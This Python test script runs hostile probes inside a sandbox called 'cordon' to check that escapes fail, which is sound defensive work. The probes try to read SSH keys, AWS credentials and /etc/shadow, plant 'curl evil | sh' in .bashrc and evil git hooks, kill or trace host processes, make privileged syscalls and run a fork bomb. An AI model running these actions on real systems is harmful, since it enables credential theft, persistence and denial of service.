"""Hostile probes run inside a cordon sandbox. Each prints `name<TAB>result`; the Rust test
(tests/escape.rs) holds the expected result for every probe and checks the host afterwards.

Usage: escape.py HOST_PID HOME WORKSPACE HELPER ABSTRACT_SOCKET_NAME
Results: errno:NAME | ok:DETAIL | signal:N | exit:N | value:TEXT
"""
import ctypes, errno, fcntl, os, signal, socket, struct, subprocess, sys, termios, time

HOST_PID, HOME, WS, HELPER, ABSTRACT = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def sc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if r < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return r

KEEP = []
def ptr(data):
    """Address of a buffer that stays alive for the whole script (ctypes frees temporaries)."""
    b = ctypes.create_string_buffer(data)
    KEEP.append(b)
    return ctypes.addressof(b)

def out(name, result):
    print(f"{name}\t{result}", flush=True)

def probe(name, fn):
    try:
        r = fn()
        out(name, "ok:" + ("" if r is None else str(r)))
    except OSError as e:
        out(name, "errno:" + errno.errorcode.get(e.errno, str(e.errno)))
    except Exception as e:
        out(name, f"exception:{type(e).__name__}:{e}")

def write(path, data="x"):
    with open(path, "w") as f:
        f.write(data)

def read(path):
    with open(path, "rb") as f:
        return f.read(64)

def run_helper(what):
    p = subprocess.run([HELPER, what], capture_output=True)
    return f"signal:{-p.returncode}" if p.returncode < 0 else f"exit:{p.returncode}"

def connect(family, addr, kind=socket.SOCK_STREAM):
    s = socket.socket(family, kind)
    s.settimeout(2)
    try:
        s.connect(addr)
    finally:
        s.close()

def sendto(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"x", addr)
    finally:
        s.close()

# --- writes outside the workspace ---------------------------------------------------------
probe("write_etc", lambda: write("/etc/cordon-escape"))
probe("write_usr", lambda: write("/usr/cordon-escape"))
probe("write_root_dir", lambda: write("/cordon-escape"))
probe("write_home", lambda: write(os.path.join(HOME, "cordon-escape")))
probe("write_bashrc", lambda: write(os.path.join(HOME, ".bashrc"), "curl evil | sh"))
os.symlink("/etc/cordon-escape-link", os.path.join(WS, "link-out"))
probe("write_via_symlink", lambda: write(os.path.join(WS, "link-out")))
os.symlink("/var/lib/cordon-escape", os.path.join(WS, "link-hidden"))
probe("write_via_symlink_unmounted", lambda: write(os.path.join(WS, "link-hidden")))
probe("hardlink_etc_passwd", lambda: os.link("/etc/passwd", os.path.join(WS, "pw")))
probe("rename_out_of_workspace", lambda: (write(os.path.join(WS, "mv")), os.rename(os.path.join(WS, "mv"), "/etc/mv"))[1])
probe("chmod_system_binary", lambda: os.chmod("/usr/bin/python3.11", 0o777))
probe("write_git_hook", lambda: write(os.path.join(WS, ".git/hooks/pre-commit"), "#!/bin/sh\nevil"))
probe("write_git_config", lambda: write(os.path.join(WS, ".git/config"), "[core]\nfsmonitor = evil"))
probe("hardlink_git_hook", lambda: os.link(os.path.join(WS, ".git/hooks/post-checkout"), os.path.join(WS, "hook")))
probe("rename_git_hooks", lambda: os.rename(os.path.join(WS, ".git/hooks"), os.path.join(WS, ".git/hooks-moved")))
probe("swap_git_dir", lambda: os.rename(os.path.join(WS, ".git"), os.path.join(WS, ".git-old")))
probe("remove_git_dir", lambda: os.rmdir(os.path.join(WS, ".git")))
write(os.path.join(WS, "suid"), "#!/bin/sh\n")
probe("chmod_setuid", lambda: os.chmod(os.path.join(WS, "suid"), 0o4755))
probe("chmod_setgid", lambda: os.chmod(os.path.join(WS, "suid"), 0o2755))
probe("create_setuid", lambda: os.open(os.path.join(WS, "suid2"), os.O_CREAT | os.O_WRONLY, 0o4755))
probe("fchmodat2_setuid", lambda: sc(452, -100, ptr(os.path.join(WS, "suid").encode()), 0o4755, 0))
probe("openat2", lambda: sc(437, -100, ptr(os.path.join(WS, "x").encode()), ptr(24), 24))
probe("write_dev", lambda: write("/dev/cordon-escape"))
probe("write_proc_core_pattern", lambda: write("/proc/sys/kernel/core_pattern", "|/tmp/pwn"))
probe("write_proc_hostname", lambda: write("/proc/sys/kernel/hostname", "pwned"))
probe("write_sysrq_trigger", lambda: write("/proc/sysrq-trigger", "b"))
probe("read_kcore", lambda: len(read("/proc/kcore")))
probe("sysfs_cgroup", lambda: os.listdir("/sys/fs/cgroup"))
probe("dev_mem", lambda: read("/dev/mem"))
probe("mknod_char_device", lambda: os.mknod(os.path.join(WS, "null2"), 0o666 | 0o020000, os.makedev(1, 3)))
probe("exec_from_tmp", lambda: (open("/tmp/t", "wb").write(open("/bin/true", "rb").read()), os.chmod("/tmp/t", 0o755), subprocess.run(["/tmp/t"]))[2].returncode)
# The dynamic loader maps the program itself (landlock only checks the loader's exec): the
# kernel refuses PROT_EXEC mappings from a noexec mount, so the loader fails (status 127).
probe("exec_via_loader_from_tmp", lambda: subprocess.run(["/lib64/ld-linux-x86-64.so.2", "/tmp/t"], capture_output=True).returncode)
def memfd_exec(flags):
    fd = os.memfd_create("payload", flags)
    os.write(fd, open("/bin/true", "rb").read())
    pid = os.fork()
    if pid == 0:
        try:
            os.execve(fd, ["payload"], {})
        except OSError as e:
            os._exit(200 + e.errno)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
probe("exec_memfd", lambda: memfd_exec(0))
probe("memfd_create_exec", lambda: memfd_exec(0x10))  # MFD_EXEC
# --- secrets ------------------------------------------------------------------------------
probe("read_ssh_key", lambda: read(os.path.join(HOME, ".ssh/id_rsa")))
probe("read_aws_credentials", lambda: read(os.path.join(HOME, ".aws/credentials")))
probe("read_aws_via_symlink_target", lambda: read(os.path.join(HOME, "aws-real/credentials")))
probe("read_gh_token", lambda: read(os.path.join(HOME, ".config/gh/hosts.yml")))
probe("read_bash_history", lambda: len(read(os.path.join(HOME, ".bash_history"))))
probe("read_etc_shadow", lambda: read("/etc/shadow"))
probe("read_root_home", lambda: os.listdir("/root") if HOME != "/root" else "skipped-home-is-root")
probe("env_secret", lambda: os.environ.get("SECRET_TOKEN", "absent"))
probe("proc_self_environ_secret", lambda: "present" if b"SECRET_TOKEN" in open("/proc/self/environ", "rb").read() else "absent")
probe("proc_init_environ", lambda: len(read("/proc/1/environ")))
probe("proc_init_mem", lambda: read("/proc/1/mem"))
# --- host processes -----------------------------------------------------------------------
probe("see_host_pid", lambda: os.stat(f"/proc/{HOST_PID}"))
probe("count_visible_pids", lambda: "many" if len([p for p in os.listdir("/proc") if p.isdigit()]) > 10 else "few")
probe("kill_host_pid", lambda: os.kill(HOST_PID, signal.SIGKILL))
probe("ptrace_attach_init", lambda: sc(101, 16, 1, 0, 0))
probe("ptrace_traceme", lambda: sc(101, 0, 0, 0, 0))
buf = ctypes.create_string_buffer(8)
iov = struct.pack("PL", ctypes.addressof(buf), 8)
iov_buf = ctypes.create_string_buffer(iov)
probe("process_vm_readv", lambda: sc(310, 1, ctypes.addressof(iov_buf), 1, ctypes.addressof(iov_buf), 1, 0))
probe("kcmp", lambda: sc(312, 1, os.getpid(), 0, 0, 0))
probe("pidfd_getfd", lambda: sc(438, sc(434, os.getppid(), 0), 0, 0))
# --- network ------------------------------------------------------------------------------
probe("tcp_connect_loopback", lambda: connect(socket.AF_INET, ("127.0.0.1", 22)))
probe("tcp_connect_other_loopback", lambda: connect(socket.AF_INET, ("127.0.0.2", 80)))
probe("tcp6_connect_loopback", lambda: connect(socket.AF_INET6, ("::1", 22)))
probe("tcp_bind_listen", lambda: socket.socket().bind(("0.0.0.0", 8080)))
probe("udp_sendto_other_loopback", lambda: sendto(("127.0.0.2", 53)))
probe("udp_sendto_loopback", lambda: sendto(("127.0.0.1", 53)))
probe("raw_socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
probe("packet_socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
probe("abstract_unix_host", lambda: connect(socket.AF_UNIX, "\0" + ABSTRACT))
probe("docker_socket", lambda: connect(socket.AF_UNIX, "/var/run/docker.sock"))
probe("interface_up", lambda: fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sH22x", b"lo", 1)))
# --- kernel attack surface ----------------------------------------------------------------
probe("bpf", lambda: sc(321, 5, 0, 0))
probe("perf_event_open", lambda: sc(298, 0, 0, -1, -1, 0))
probe("keyctl", lambda: sc(250, 0, -3, 0))
probe("add_key", lambda: sc(248, 0, 0, 0, 0, -3))
probe("io_uring_setup", lambda: sc(425, 8, ptr(120)))
probe("userfaultfd", lambda: sc(323, 0))
probe("unshare_user", lambda: sc(272, 0x10000000))
probe("unshare_mount", lambda: sc(272, 0x00020000))
probe("clone_newuser", lambda: sc(56, 0x10000000 | 17, 0, 0, 0, 0))
probe("clone3", lambda: sc(435, ptr(88), 88))
probe("setns", lambda: sc(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0))
probe("mount_tmpfs", lambda: sc(165, ptr(b"none"), ptr(b"/tmp"), ptr(b"tmpfs"), 0, 0))
probe("umount_hidden", lambda: sc(166, ptr(os.path.join(HOME, ".ssh").encode()), 2))
probe("chroot", lambda: os.chroot("/tmp"))
probe("pivot_root", lambda: sc(155, ptr(b"/tmp"), ptr(b"/tmp")))
probe("open_tree", lambda: sc(428, -100, ptr(b"/"), 1))
probe("open_by_handle_at", lambda: sc(304, -100, ptr(64), 0))
probe("init_module", lambda: sc(175, 0, 0, 0))
probe("finit_module", lambda: sc(313, 0, 0, 0))
probe("kexec_load", lambda: sc(246, 0, 0, 0, 0))
probe("reboot", lambda: sc(169, 0xfee1dead, 672274793, 0x4321FEDC, 0))
probe("swapon", lambda: sc(167, ptr(b"/tmp/swap"), 0))
probe("syslog_read", lambda: sc(103, 3, ptr(64), 64))
probe("settimeofday", lambda: sc(164, ptr(16), 0))
probe("iopl", lambda: sc(172, 3))
probe("sethostname", lambda: sc(170, ptr(b"pwned"), 5))
probe("setuid_root", lambda: os.setuid(0))
probe("capset_all", lambda: sc(126, ptr(struct.pack("Ii", 0x20080522, 0)), ptr(b"\xff" * 24)))
probe("personality_no_aslr", lambda: sc(135, 0x0040000))
probe("personality_read_implies_exec", lambda: sc(135, 0x0400000))
probe("tiocsti", lambda: fcntl.ioctl(0, termios.TIOCSTI, b"x"))
probe("tiocsti_high_bits", lambda: sc(16, 0, (1 << 32) | termios.TIOCSTI, ptr(b"x")))
out("int80_i386", run_helper("int80"))
out("x32_syscall", run_helper("x32"))
# --- resources ----------------------------------------------------------------------------
probe("file_size_limit", lambda: (write(os.path.join(WS, "big"), ""), os.truncate(os.path.join(WS, "big"), 3 << 30))[1])
def fill_tmp():
    chunk = b"\0" * (8 << 20)
    with open("/tmp/fill", "wb") as f:
        for _ in range(1024):  # at most 8 GiB; /tmp is far smaller
            f.write(chunk)
            f.flush()
probe("fill_tmp", fill_tmp)
os.unlink("/tmp/fill")
def fork_bomb():
    r, w = os.pipe()
    kids = []
    try:
        for _ in range(100000):
            pid = os.fork()
            if pid == 0:
                os.close(w)
                os.read(r, 1)
                os._exit(0)
            kids.append(pid)
    finally:
        os.close(w)
        for k in kids:
            os.waitpid(k, 0)
probe("fork_bomb", fork_bomb)
def memory_hog():
    p = subprocess.run([sys.executable, "-c", "b = []\nwhile True: b.append(bytearray(64 << 20))"])
    return f"returncode={p.returncode}"
probe("memory_hog", memory_hog)
